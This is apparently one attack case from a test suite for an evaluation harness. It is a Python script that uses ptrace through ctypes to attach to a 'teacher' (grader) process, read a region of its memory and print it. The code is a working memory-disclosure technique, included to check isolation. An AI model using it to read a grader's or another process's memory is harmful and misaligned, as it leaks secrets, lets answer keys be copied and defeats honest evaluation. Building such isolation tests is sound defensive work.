# /// attack
# tries = "Attaches to the teacher's process as a debugger does and reads its memory."
# points = 0
# shows = ["leak"]
# ///
# %% before count
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
ATTACH, PEEK, DETACH = 16, 2, 17
if libc.ptrace(ATTACH, bait["pid"], None, None) == 0:
    os.waitpid(bait["pid"], 0x40000000)
    words = [libc.ptrace(PEEK, bait["pid"], bait["address"] + at, None) for at in range(0, bait["length"], 8)]
    libc.ptrace(DETACH, bait["pid"], None, None)
    print(b"".join(word.to_bytes(8, "little", signed=True) for word in words)[: bait["length"]].decode())
